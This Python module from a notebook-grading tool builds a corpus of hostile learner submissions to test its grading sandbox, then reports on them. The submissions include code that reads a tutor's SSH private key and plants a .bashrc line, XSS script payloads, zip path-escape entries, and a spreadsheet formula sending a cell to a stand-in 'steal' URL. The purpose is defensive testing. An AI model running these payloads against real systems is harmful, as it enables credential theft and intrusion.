"""Bad and hostile submissions, and the tutor's report of anything unusual after autograding.

Two halves:

- **The corpus** (:data:`CASES`, :func:`make_corpus`): submissions that real cohorts hand in by mistake or
  on purpose, built from a real course notebook (``scripts/make_hostile_corpus.py`` writes them into a
  course's ``submitted/`` folder). Each case states its expected outcome: *graded* (and with which
  automatic score) or *not graded*, with a one-line reason. ``tests/integration/test_hostile.py`` proves each one and
  that every other learner's scores are untouched; ``docs/grading-safely.md`` has the table.
- **The report** (:func:`unusual`, :func:`report_table`): after autograding, one row per thing a tutor
  should know about each submission (cells that were edited and restored from the source, cells that
  timed out, limits the grading sandbox enforced, missing or unexpected files, submissions nbgrader could
  not grade). Printed by ``syslead autograde`` and callable from the tutor dashboard.
"""

from __future__ import annotations

import copy
import functools
import io
import json
import os
import re
import uuid
import zipfile
from dataclasses import dataclass
from pathlib import Path

import nbformat

from syslead.grading.answers import AUTOGRADE_PREPROCESSORS
from syslead.learner.checks import answer_text, marker_name


@dataclass(frozen=True)
class Case:
    id: str  # also the learner id it is submitted under
    what: str  # the submission, in a few words
    outcome: str  # "graded" or "not graded"
    why: str  # the expected result, one line
    auto_score: float | None = None  # expected automatic score for reading 1, of its 3 quick questions (None: not graded)
    flags: tuple[str, ...] = ()  # kinds of row the report must show for it


#: Reading 1 has two auto-graded checks worth 1 point each. Every hostile case answers both correctly
#: (levels = 3 and the right letter) and writes reflections, then adds its hostility, so a score of 2 shows
#: the rest of the notebook was graded normally.
CASES: list[Case] = [
    Case("edited-check", "a check cell replaced by `assert True`, with a wrong answer", "graded",
         "the check is restored from the source and fails: 2 of 3", 2.0, ("restored",)),
    Case("deleted-grade-cell", "a check cell deleted", "graded",
         "the check is put back from the source and runs: 3 of 3", 3.0, ("restored",)),
    Case("duplicated-cell", "a check cell pasted twice", "graded",
         "the copy is graded as a plain cell (plain nbgrader stops the whole batch here): 3 of 3", 3.0,
         ("restored",)),
    Case("changed-cell-type", "an answer cell turned into markdown (nbgrader #1941)", "graded",
         "the cell type is restored and the answer in it runs: 3 of 3", 3.0, ("restored",)),
    Case("stripped-metadata", "all nbgrader metadata removed", "graded",
         "the checks are put back from the source (at the end) and run: 3 of 3", 3.0, ("restored",)),
    Case("altered-metadata", "a check's points raised from 1 to 100", "graded",
         "the points come from the gradebook, not the submission: 3 of 3", 3.0, ("restored",)),
    Case("invalid-json", "a notebook cut off half-way (invalid JSON)", "not graded",
         "nbgrader cannot read it; the report says so and the tutor asks for it again", None, ("failed",)),
    Case("empty-file", "an empty file with the notebook's name", "not graded",
         "nbgrader cannot read it; the report says so", None, ("failed",)),
    Case("wrong-name", "the notebook saved under another name", "not graded",
         "nbgrader finds no notebook it knows; the report names the file that is there instead", None,
         ("missing",)),
    Case("missing-notebook", "a folder without the notebook", "not graded",
         "nothing to grade; the report says the notebook is missing", None, ("missing",)),
    Case("other-kernel", "a notebook saved with an R kernel", "graded",
         "the kernel comes from the source (and the grading sandbox): 3 of 3", 3.0, ()),
    Case("infinite-loop", "an endless loop in an answer cell", "graded",
         "that cell times out and is stopped; the rest runs: 3 of 3", 3.0, ("timeout",)),
    Case("print-flood", "20 MB of printed output", "graded",
         "the sandbox drops it past 8 MB and nbgrader keeps 1000 lines: 3 of 3", 3.0, ("limit",)),
    Case("display-flood", "24 MB of rich (HTML) output", "graded",
         "the output is cut at the sandbox's limit: 3 of 3", 3.0, ("limit",)),
    Case("memory-20gb", "code that allocates 20 GB", "graded",
         "MemoryError in that cell, the rest runs: 3 of 3", 3.0, ("limit",)),
    Case("many-processes", "code that starts 500 processes", "graded",
         "process limit hit (BlockingIOError), the processes are killed afterwards: 3 of 3", 3.0, ("limit",)),
    Case("read-gradebook", "code that reads the gradebook and another learner's notebook", "graded",
         "neither exists in the sandbox (FileNotFoundError); nothing leaks; the report names both: 3 of 3", 3.0,
         ("blocked",)),
    Case("read-source", "code that walks the file system for the source notebooks (solutions, hidden tests)",
         "graded", "the sandbox holds no course folder: nothing is found; the report names the attempt: 3 of 3",
         3.0, ("blocked",)),
    Case("tutor-home", "code that reads the tutor's SSH key and plants a ~/.bashrc", "graded",
         "no home folder of the tutor's exists in the sandbox; nothing is read or planted: 3 of 3", 3.0,
         ("blocked",)),
    Case("write-course", "code that writes into the course folder", "graded",
         "the course is not in the sandbox; nothing is written: 3 of 3", 3.0, ("blocked",)),
    Case("kill-parent", "code that kills its parent process", "graded",
         "its parent is the sandbox's first process, which ignores it; the grader carries on: 3 of 3", 3.0,
         ("blocked",)),
    Case("network", "code that connects over TCP and to an abstract Unix socket", "graded",
         "the sandbox has a network of its own with nothing in it: refused, and reported: 3 of 3", 3.0,
         ("blocked",)),
    Case("daemon", "a daemon that outlives its cell and hunts for other kernels through /proc", "graded",
         "it sees only its own sandbox and is killed when the notebook ends: 3 of 3", 3.0, ("process",)),
    Case("big-file", "a 500 MB file beside the notebook", "graded",
         "the file is left out of the sandbox's copy and reported: 3 of 3", 3.0, ("file",)),
    Case("symlink-notebook", "the notebook is a symbolic link to another learner's notebook", "not graded",
         "links are never followed: refused, and the report names the learner", None, ("refused",)),
    Case("symlink-file", "a symbolic link to the gradebook beside the notebook", "not graded",
         "links are never followed: refused, and the report names the learner", None, ("refused",)),
    Case("fifo", "a FIFO (named pipe) beside the notebook", "not graded",
         "special files are refused; the report names the learner", None, ("refused",)),
    Case("deeply-nested", "a notebook whose JSON is nested 100,000 levels deep", "not graded",
         "refused before any tool parses it; everyone else is graded", None, ("refused",)),
    Case("huge-notebook", "a 60 MB notebook", "not graded",
         "refused (over the 50 MB notebook limit); everyone else is graded", None, ("refused",)),
    Case("script-reflection", "a reflection with <script> and HTML event handlers, and HTML output with script",
         "graded", "the script is removed before formgrader or the feedback can show it: 3 of 3", 3.0,
         ("blocked",)),
    Case("formula-reflection", "a reflection that starts with = (a spreadsheet formula)", "graded",
         "graded as text; in syslead's CSV files it is prefixed with ' so it stays text: 3 of 3", 3.0, ()),
]

ZIP_CASE = Case("zip-escape", "a zip for zip_collect whose member names try to leave the target folder",
                "extracted safely", "nbgrader's zip_collect writes every member inside its folder; none escapes")

CASE_IDS = [c.id for c in CASES]


def by_id(case_id: str) -> Case:
    return next(c for c in CASES if c.id == case_id)


# --- grading configuration ----------------------------------------------------------------------------------


@functools.lru_cache(maxsize=1)
def _preprocessors() -> dict:
    from nbgrader import utils
    from nbgrader.preprocessors import NbGraderPreprocessor, OverwriteCells

    class DropEmptyMetadata(NbGraderPreprocessor):
        """After nbgrader's DeduplicateIds: a dropped duplicate keeps an empty ``nbgrader`` dict, which
        CheckCellMetadata then rejects as an "old metadata format", and nbgrader stops the whole batch.
        Make the copy a plain cell instead, so that the learner is graded."""

        def preprocess_cell(self, cell, resources, index):
            if "nbgrader" in cell.get("metadata", {}) and not cell.metadata["nbgrader"]:
                del cell.metadata["nbgrader"]
            return cell, resources

    class RestoreDeletedChecks(OverwriteCells):
        """nbgrader's OverwriteCells, and a deleted auto-graded check (a code grade cell) is put back from
        the source, after the nearest cell before it that is still there (or at the end), so it runs and is
        scored.
        (nbgrader's own ``add_missing_cells`` fails when that neighbour is gone too, and would also put
        back reflection cells with their mark scheme, which the feedback would then show.)"""

        def add_missing_grade_cells(self, nb, resources):
            source_nb = self.gradebook.find_notebook(self.notebook_id, self.assignment_id)
            source_cells = source_nb.source_cells
            ids = [cell.name for cell in source_cells]
            for grade_cell in source_nb.grade_cells:
                if grade_cell.cell_type != "code" or grade_cell.name not in ids:
                    continue
                present = {c.metadata.nbgrader["grade_id"]: i for i, c in enumerate(nb.cells)
                           if utils.is_grade(c) or utils.is_solution(c) or utils.is_locked(c)}
                if grade_cell.name in present:
                    continue
                self.log.warning("Missing grade cell %s encountered, adding to notebook", grade_cell.name)
                at = ids.index(grade_cell.name)
                cell = self.missing_cell_transform(source_cells[at], grade_cell.max_score)
                # after the nearest earlier cell still there; with none, at the end (after every answer)
                after = next((present[p] for p in reversed(ids[:at]) if p in present), len(nb.cells) - 1)
                restored = nbformat.from_dict(cell)
                restored["id"] = uuid.uuid4().hex[:8]
                nb.cells.insert(after + 1, restored)
            return nb, resources

        def add_missing_task_cells(self, nb, resources):
            return nb, resources

        def preprocess(self, nb, resources):
            self.add_missing_cells = True
            return super().preprocess(nb, resources)

    return {"DropEmptyMetadata": DropEmptyMetadata, "RestoreDeletedChecks": RestoreDeletedChecks}


SANITIZE = ["nbgrader.preprocessors.ClearOutput", "nbgrader.preprocessors.DeduplicateIds",
            "syslead.grading.hostile.DropEmptyMetadata", "nbgrader.preprocessors.OverwriteKernelspec",
            "syslead.grading.hostile.RestoreDeletedChecks", "nbgrader.preprocessors.CheckCellMetadata"]


#: The course's one autograde pipeline (quick questions marked from plain values; learner HTML sanitised).
AUTOGRADE = list(AUTOGRADE_PREPROCESSORS)


def safe_grading(config, kernel: str | None = "syslead-sandbox"):
    """Set an nbgrader Config up for grading hostile or broken submissions: a deleted check is put back
    from the source and run, a duplicated cell no longer stops the batch, learner HTML and script are
    sanitised after the notebook runs (so formgrader and the feedback never show them), and the code runs
    in the sandbox ``kernel`` (None: nbgrader's default)."""
    config.Autograde.sanitize_preprocessors = list(SANITIZE)
    config.Autograde.autograde_preprocessors = list(AUTOGRADE)
    if kernel:
        config.Execute.kernel_name = kernel
    return config


#: The same as command-line options of ``nbgrader autograde`` (add --Execute.kernel_name=syslead-sandbox).
SAFE_GRADING_OPTIONS = ["--Autograde.sanitize_preprocessors=" + json.dumps(SANITIZE),
                        "--Autograde.autograde_preprocessors=" + json.dumps(AUTOGRADE)]


def __getattr__(name: str):  # the preprocessors are built on first use (nbgrader is slow to import)
    if name in ("DropEmptyMetadata", "RestoreDeletedChecks"):
        return _preprocessors()[name]
    raise AttributeError(name)


# --- building the corpus -----------------------------------------------------------------------------------


def solutions(source_nb: Path) -> dict[str, str]:
    """The answer cells of a source notebook, as a complete learner would write them."""
    nb = nbformat.read(str(source_nb), as_version=4)
    found = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            found[meta["grade_id"]] = re.sub(r"### (BEGIN|END) SOLUTION\n?", "", cell.source)
    return found


REFLECTION = ("Last spring a referral form went out by email from the director to heads of service only. "
              "I felt frustrated when health visitors had never seen it. Next time I will ask team leads to "
              "pass it on as well and check who has heard after a week.")


def answered(release_nb: Path, answers: dict[str, str], reflection: str | None = REFLECTION):
    """The release notebook filled in as a learner would."""
    nb = nbformat.read(str(release_nb), as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if not meta.get("solution"):
            continue
        if cell.cell_type == "code" and meta.get("grade_id") in answers:
            cell.source = answers[meta["grade_id"]]
        elif cell.cell_type == "markdown" and reflection:
            cell.source = reflection
    return nb


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _answer_cells(nb) -> list:
    return [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]


def _checks(nb) -> list:
    return [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]


def _append(cell, code: str) -> None:
    """Add learner code to an answer cell. A cell whose answer is typed as text (under its first line,
    "# Your answer (name): ...") would keep the code as text, never run: it becomes the older Python form
    of the same answer, ``name = "B"``, which runs, and the code follows it."""
    name = marker_name(cell.source)
    if name is not None:
        typed = [line.strip() for line in (answer_text(cell.source, name) or "").splitlines()
                 if line.strip() and not line.strip().startswith("#")]
        value = typed[0] if typed else None
        cell.source = f"{name} = {int(value) if value and value.isdigit() else value!r}"
    cell.source = cell.source.rstrip("\n") + "\n" + code


def build_case(case_id: str, release_nb: Path, answers: dict[str, str], course_root: Path,
               big_file_mb: int = 500) -> dict[str, object]:
    """The files of one case's submission folder: name -> notebook, bytes, or ("sparse", size)."""
    name = release_nb.name
    nb = answered(release_nb, answers)
    first, second = _answer_cells(nb)[:2]
    gradebook = str(course_root / "gradebook.db")
    other = str(course_root / "submitted" / "ada" / release_nb.parent.name / name)
    home = os.path.expanduser("~")
    files: dict[str, object] = {name: nb}
    if case_id == "edited-check":
        _checks(nb)[0].source = "assert True"
        first.source = re.sub(r"=\s*\S+\s*$", "= 99", first.source.rstrip())
    elif case_id == "deleted-grade-cell":
        nb.cells.remove(_checks(nb)[1])
    elif case_id == "duplicated-cell":
        check = _checks(nb)[0]
        nb.cells.insert(nb.cells.index(check) + 1, copy.deepcopy(check))
    elif case_id == "changed-cell-type":
        index = nb.cells.index(first)
        nb.cells[index] = nbformat.v4.new_markdown_cell(first.source, metadata=copy.deepcopy(first.metadata))
    elif case_id == "stripped-metadata":
        for cell in nb.cells:
            cell.metadata.pop("nbgrader", None)
    elif case_id == "altered-metadata":
        _checks(nb)[0].metadata["nbgrader"]["points"] = 100
    elif case_id == "invalid-json":
        text = nbformat.writes(nb)
        files[name] = text[: len(text) // 2].encode()
    elif case_id == "empty-file":
        files[name] = b""
    elif case_id == "wrong-name":
        files = {name.replace(".ipynb", "-final.ipynb"): nb}
    elif case_id == "missing-notebook":
        files = {"notes.txt": b"I could not find the notebook, sorry.\n"}
    elif case_id == "other-kernel":
        nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
        nb.metadata["language_info"] = {"name": "R"}
    elif case_id == "infinite-loop":
        _append(first, "while True:\n    pass")
    elif case_id == "print-flood":
        _append(first, "for i in range(200_000):\n    print('flood', i, 'x' * 80)")
    elif case_id == "display-flood":
        _append(first, "from IPython.display import HTML, display\nfor i in range(200):\n"
                       "    display(HTML('<p>' + 'flood ' * 20_000 + '</p>'))")
    elif case_id == "memory-20gb":
        _append(first, "hoard = bytearray(20 * 1024**3)")
    elif case_id == "many-processes":
        _append(first, "import subprocess\nchildren = [subprocess.Popen(['sleep', '600']) for _ in range(500)]")
    elif case_id == "read-gradebook":
        _append(first, f"print(open({gradebook!r}, 'rb').read()[:200])")
        _append(second, f"print(open({other!r}).read()[:2000])")
    elif case_id == "write-course":
        _append(first, f"open({str(course_root / 'nbgrader_config.py')!r}, 'a').write('\\nc.Execute.timeout = 1\\n')")
        _append(second, f"open({str(course_root / 'planted.txt')!r}, 'w').write('planted')")
    elif case_id == "kill-parent":
        _append(first, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
    elif case_id == "read-source":
        _append(first, f"import glob\nfor p in glob.glob({str(course_root / 'source' / '*' / '*.ipynb')!r}):\n"
                       "    print(open(p).read()[:3000])")
        _append(second, f"import os\nprint(os.listdir({str(course_root)!r}))")
    elif case_id == "tutor-home":
        _append(first, f"print(open({os.path.join(home, '.ssh', 'id_rsa')!r}).read())")
        _append(second, f"open({os.path.join(home, '.bashrc')!r}, 'a').write('\\necho planted\\n')")
    elif case_id == "network":
        _append(first, "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 22), timeout=3)\n"
                       "except OSError as e:\n    print('tcp', e)")
        _append(second, "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n"
                        "    s.connect('\\0/tmp/.X11-unix/X0')\nexcept OSError as e:\n    print('unix', e)")
    elif case_id == "daemon":
        _append(first, "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import glob, os, time\\n"
                       "while True:\\n    for p in glob.glob(\"/proc/*/root/*\"): pass\\n    time.sleep(0.2)'], "
                       "start_new_session=True)")
    elif case_id == "big-file":
        files["big.bin"] = ("sparse", big_file_mb << 20)
    elif case_id == "symlink-notebook":
        files = {name: ("symlink", other)}
    elif case_id == "symlink-file":
        files["gradebook.db"] = ("symlink", gradebook)
    elif case_id == "fifo":
        files["pipe"] = ("fifo",)
    elif case_id == "deeply-nested":
        text = nbformat.writes(nb)
        files[name] = (text[:-2] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "\n}").encode()
    elif case_id == "huge-notebook":
        files[name] = ("sparse", 60 << 20)
    elif case_id == "script-reflection":
        for cell in nb.cells:
            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source += ('\n\n<script>fetch("/api/contents")</script><img src=x onerror="alert(1)">'
                                '[click](javascript:alert(2))')
        _append(first, "from IPython.display import HTML, Javascript, display\n"
                       "display(HTML('<b>hi</b><script>alert(3)</script>'))\ndisplay(Javascript('alert(4)'))")
    elif case_id == "formula-reflection":
        for cell in nb.cells:
            if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = '=HYPERLINK("http://example.invalid/steal?"&A1, "see my work") ' + cell.source
    else:
        raise KeyError(f"unknown case {case_id!r}")
    return files


def write_files(folder: Path, files: dict[str, object]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for fname, content in files.items():
        path = folder / fname
        if isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, tuple) and content[0] == "sparse":
            with open(path, "wb") as f:
                f.truncate(content[1])  # a hole: counts as its full size, costs no disk until copied
        elif isinstance(content, tuple) and content[0] == "symlink":
            path.unlink(missing_ok=True)
            os.symlink(content[1], path)
        elif isinstance(content, tuple) and content[0] == "fifo":
            path.unlink(missing_ok=True)
            os.mkfifo(path)
        else:
            nbformat.write(content, str(path))


def escaping_zip(notebook_bytes: bytes) -> bytes:
    """A zip whose member names try to leave the folder it is extracted into."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("eve_01-systems-leadership.ipynb", notebook_bytes)
        z.writestr("../../escaped-dotdot.txt", "escaped\n")
        z.writestr("/tmp/escaped-absolute.txt", "escaped\n")
        z.writestr("sub/../../../escaped-nested.txt", "escaped\n")
    return buffer.getvalue()


def make_corpus(release_nb: Path, source_nb: Path, submitted: Path, course_root: Path,
                cases: list[str] | None = None, big_file_mb: int = 500) -> list[Case]:
    """Write each case's submission into ``submitted/CASE/ASSIGNMENT/`` (with a timestamp.txt, as
    ``nbgrader collect`` leaves it); returns the cases written."""
    assignment = release_nb.parent.name
    answers = solutions(source_nb)
    chosen = [by_id(c) for c in cases] if cases else CASES
    for case in chosen:
        folder = submitted / case.id / assignment
        write_files(folder, build_case(case.id, release_nb, answers, course_root, big_file_mb))
        (folder / "timestamp.txt").write_text("2024-01-01 12:00:00.000000 UTC")
    return chosen


# --- the report ----------------------------------------------------------------------------------------------

#: error names in an autograded notebook, and what the tutor should read for them
ERRORS = {
    "CellTimeoutError": ("timeout", "a cell ran past the time limit and was stopped"),
    "MemoryError": ("limit", "memory limit hit"),
    "CPUTimeLimit": ("limit", "CPU-time limit hit"),
    # the sandbox has no network, so a cell that stops with this could not start another process (EAGAIN);
    # an answer cell's message is replaced by one sentence (syslead.grading.answers), its name is kept
    "BlockingIOError": ("limit", "process limit hit"),
}
MESSAGES = [
    (re.compile(r"Resource temporarily unavailable"), "limit", "process limit hit"),
    (re.compile(r"File too large"), "limit", "file-size limit hit"),
    (re.compile(r"Network is unreachable|Connection refused|Temporary failure in name resolution"), "blocked",
     "tried to use the network (the sandbox has none)"),
    (re.compile(r"output was cut"), "limit", "output cut at the size limit"),
    (re.compile(r"\.\.\. Output truncated \.\.\."), "limit", "over 1000 lines of output (cut by nbgrader)"),
    (re.compile(r"Operation not permitted"), "blocked", "was refused an operation (such as signalling the grader)"),
    (re.compile(r"Read-only file system"), "blocked", "tried to write outside its own folder"),
]


@dataclass(frozen=True)
class Row:
    student: str
    notebook: str
    kind: str  # failed, refused, missing, restored, timeout, limit, blocked, file, process
    detail: str


def _release_cells(path: Path) -> dict[str, dict]:
    """The cells of the release notebook (what each learner started from) that carry a grade id."""
    cells = {}
    if not path.is_file():
        return cells
    for cell in nbformat.read(str(path), as_version=4).cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id"):
            cells[meta["grade_id"]] = {"cell_type": cell.cell_type, "source": cell.source,
                                       "locked": bool(meta.get("locked") or meta.get("grade") and
                                                      not meta.get("solution")),
                                       "points": meta.get("points")}
    return cells


def _compare(student: str, notebook: str, nb, release: dict[str, dict]) -> list[Row]:
    rows = []
    seen: dict[str, int] = {}
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        grade_id = meta.get("grade_id")
        if not grade_id:
            continue
        seen[grade_id] = seen.get(grade_id, 0) + 1
        want = release.get(grade_id)
        if want is None or seen[grade_id] > 1:
            continue
        if cell.cell_type != want["cell_type"]:
            rows.append(Row(student, notebook, "restored", f"cell {grade_id} was changed from {want['cell_type']} "
                                                           f"to {cell.cell_type}; nbgrader changed it back"))
        elif want["locked"] and cell.source != want["source"]:
            rows.append(Row(student, notebook, "restored", f"locked cell {grade_id} was edited; graded with the "
                                                           "source version"))
        if meta.get("points") != want["points"] and want["points"] is not None:
            rows.append(Row(student, notebook, "restored", f"cell {grade_id}: points changed to {meta.get('points')}; "
                                                           f"the gradebook's {want['points']} count"))
    for grade_id, count in seen.items():
        if count > 1 and grade_id in release:
            rows.append(Row(student, notebook, "restored", f"cell {grade_id} appears {count} times; the extra copies "
                                                           "are graded as plain cells"))
    missing = sorted(g for g in release if g not in seen)
    if missing and not seen:
        rows.append(Row(student, notebook, "restored", "all nbgrader metadata was removed; the checks were put "
                                                       "back from the source"))
    elif missing:
        rows.append(Row(student, notebook, "restored", f"cells deleted: {', '.join(missing)} (checks are put back "
                                                       "from the source)"))
    return rows


def _outputs(student: str, notebook: str, nb) -> list[Row]:
    rows = []
    for index, cell in enumerate(nb.cells):
        label = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") or f"cell {index + 1}"
        found: dict[str, str] = {}
        for out in cell.get("outputs", []):
            if out.get("output_type") == "error" and out.get("ename") in ERRORS:
                kind, text = ERRORS[out["ename"]]
                found[text] = kind
            blob = out.get("text", "") if out.get("output_type") == "stream" else (
                f"{out.get('ename', '')}: {out.get('evalue', '')}" if out.get("output_type") == "error" else "")
            for pattern, kind, text in MESSAGES:
                if pattern.search(blob):
                    found[text] = kind
        rows += [Row(student, notebook, kind, f"{label}: {text}") for text, kind in found.items()]
    return rows


def _records(root: Path, student: str, assignment: str) -> list[dict]:
    folder = root / ".syslead" / "sandbox-runs"
    prefix = "__".join(("autograded", student, assignment)) + "--"
    found = []
    if folder.is_dir():
        for path in sorted(folder.glob(prefix + "*.json"), key=lambda p: p.stat().st_mtime):
            try:
                found.append(json.loads(path.read_text()))
            except (OSError, ValueError):
                pass
    return found


def unusual(root: Path | str, assignment: str, students: list[str] | None = None,
            since: float | None = None) -> list[Row]:
    """Anything a tutor should know about each submission of ``assignment`` after autograding: rows of
    (learner, notebook, kind, detail). Reads the course's submitted/ and autograded/ folders, the gradebook
    (for the source version of each cell) and the grading sandbox's run records (those since ``since``)."""
    from nbgrader.api import Gradebook, MissingEntry
    from nbgrader.apps import NbGraderAPI

    from syslead.grading.clean import looks_unsafe
    from syslead.grading.submissions import screen

    root = Path(root)
    config = course_config(root)
    api = NbGraderAPI(config=config)
    coursedir = api.coursedir
    submitted_dir = root / coursedir.submitted_directory
    autograded_dir = root / coursedir.autograded_directory
    rows: list[Row] = []
    with Gradebook(coursedir.db_url, coursedir.course_id or "default_course") as gb:
        try:
            expected = [nb.name for nb in gb.find_assignment(assignment).notebooks]
        except MissingEntry:
            return [Row("-", "-", "failed", f"{assignment} is not in the gradebook")]
        release = root / coursedir.release_directory / assignment
        sources = {name: _release_cells(release / f"{name}.ipynb") for name in expected}
        learners = students or sorted(p.name for p in submitted_dir.iterdir()
                                      if (p / assignment).is_dir()) if submitted_dir.is_dir() else []
        for student in learners:
            folder = submitted_dir / student / assignment
            problems = screen(folder)
            if problems:
                rows += [Row(student, "-", "refused", f"not graded: {p}") for p in problems]
                continue
            found = sorted(p.name for p in folder.glob("*.ipynb")) if folder.is_dir() else []
            for extra in sorted(set(found) - {f"{n}.ipynb" for n in expected}):
                rows.append(Row(student, extra, "missing", "unexpected notebook, not graded (wrong name?)"))
            for name in expected:
                fname = f"{name}.ipynb"
                if fname not in found:
                    rows.append(Row(student, fname, "missing", "notebook missing: graded as 0"))
                    continue
                try:
                    nb = nbformat.read(str(folder / fname), as_version=4)
                except Exception as error:
                    reason = "the file is empty" if (folder / fname).stat().st_size == 0 else (
                        f"not a readable notebook ({type(error).__name__})")
                    rows.append(Row(student, fname, "failed", f"{reason}: not graded; ask for it again"))
                    continue
                rows += _compare(student, fname, nb, sources[name])
                if looks_unsafe(nb):
                    rows.append(Row(student, fname, "blocked", "script or unsafe HTML in the notebook was removed; "
                                                               "formgrader and the feedback show the cleaned copy"))
                graded = autograded_dir / student / assignment / fname
                if not graded.is_file():
                    rows.append(Row(student, fname, "failed", "nbgrader could not grade it: see its log"))
                    continue
                try:
                    rows += _outputs(student, fname, nbformat.read(str(graded), as_version=4))
                except Exception:
                    rows.append(Row(student, fname, "failed", "the graded notebook cannot be read"))
            for record in _records(root, student, assignment):
                if since is not None and record.get("started", 0) < since:
                    continue
                rows += _record_rows(student, record)
    return rows


BLOCKED = {"file": "tried to open {detail}, which the sandbox hides",
           "network": "tried to connect to {detail} (the sandbox has no network)",
           "abstract socket": "tried an abstract Unix socket {detail} (the sandbox has no network)",
           "unix socket": "tried the Unix socket {detail}, which the sandbox hides",
           "signal": "tried to signal {detail}, outside the sandbox or its first process (nothing happened)"}


def _record_rows(student: str, record: dict) -> list[Row]:
    rows = []
    for note in record.get("skipped_files", []):
        rows.append(Row(student, "-", "file", f"left out of the grading copy: {note}"))
    for event in record.get("events", []):
        text = BLOCKED.get(event.get("kind"), "tried {detail} (refused by the sandbox)")
        rows.append(Row(student, "-", "blocked", text.format(detail=event.get("detail", ""))))
    if record.get("setup_error"):
        rows.append(Row(student, "-", "failed", f"the grading sandbox could not start: {record['setup_error']}"))
    if record.get("wall_time_limit"):
        rows.append(Row(student, "-", "timeout", f"the kernel was stopped after {record['limits']['wall_seconds']} s"))
    if record.get("processes_at_end"):
        rows.append(Row(student, "-", "process", f"{record['processes_at_end']} processes still running when the "
                                                 "notebook ended: killed with the sandbox"))
    if record.get("terminal_output_cut"):
        rows.append(Row(student, "-", "limit", f"{record['terminal_output_bytes'] / 1e6:.1f} MB written to the "
                                               "terminal, cut"))
    return rows


def report_table(rows: list[Row], assignment: str = "") -> str:
    """The report as a plain-text table for the terminal (nothing unusual: one line that says so)."""
    if not rows:
        return f"Nothing unusual in the submissions{' of ' + assignment if assignment else ''}."
    width = max(len("learner"), *(len(r.student) for r in rows))
    kinds = max(len("what"), *(len(r.kind) for r in rows))
    lines = [f"Unusual submissions{' of ' + assignment if assignment else ''}:",
             f"{'learner':<{width}}  {'what':<{kinds}}  detail", f"{'-' * width}  {'-' * kinds}  ------"]
    last = None
    for r in sorted(rows, key=lambda r: r.student):
        who = r.student if r.student != last else ""
        last = r.student
        where = "" if r.notebook in ("-", "") else f"{r.notebook}: "
        lines.append(f"{who:<{width}}  {r.kind:<{kinds}}  {where}{r.detail}")
    return "\n".join(lines)


def report_frame(rows: list[Row]):
    """The report as a pandas DataFrame (for the tutor dashboard)."""
    import pandas as pd

    return pd.DataFrame([r.__dict__ for r in rows], columns=["student", "notebook", "kind", "detail"])


def describe_cases() -> str:
    """The corpus as a markdown table (for the docs)."""
    lines = ["| case | the submission | outcome | what happens |", "|---|---|---|---|"]
    for c in [*CASES, ZIP_CASE]:
        lines.append(f"| `{c.id}` | {c.what} | {c.outcome} | {c.why} |")
    return "\n".join(lines)


def course_config(root: Path):
    """The course's nbgrader configuration (its nbgrader_config.py), rooted at ``root``."""
    from traitlets.config import Config
    from traitlets.config.loader import PyFileConfigLoader

    config = Config()
    if (root / "nbgrader_config.py").is_file():
        config.merge(PyFileConfigLoader("nbgrader_config.py", path=str(root)).load_config())
    config.CourseDirectory.root = str(root)
    return config
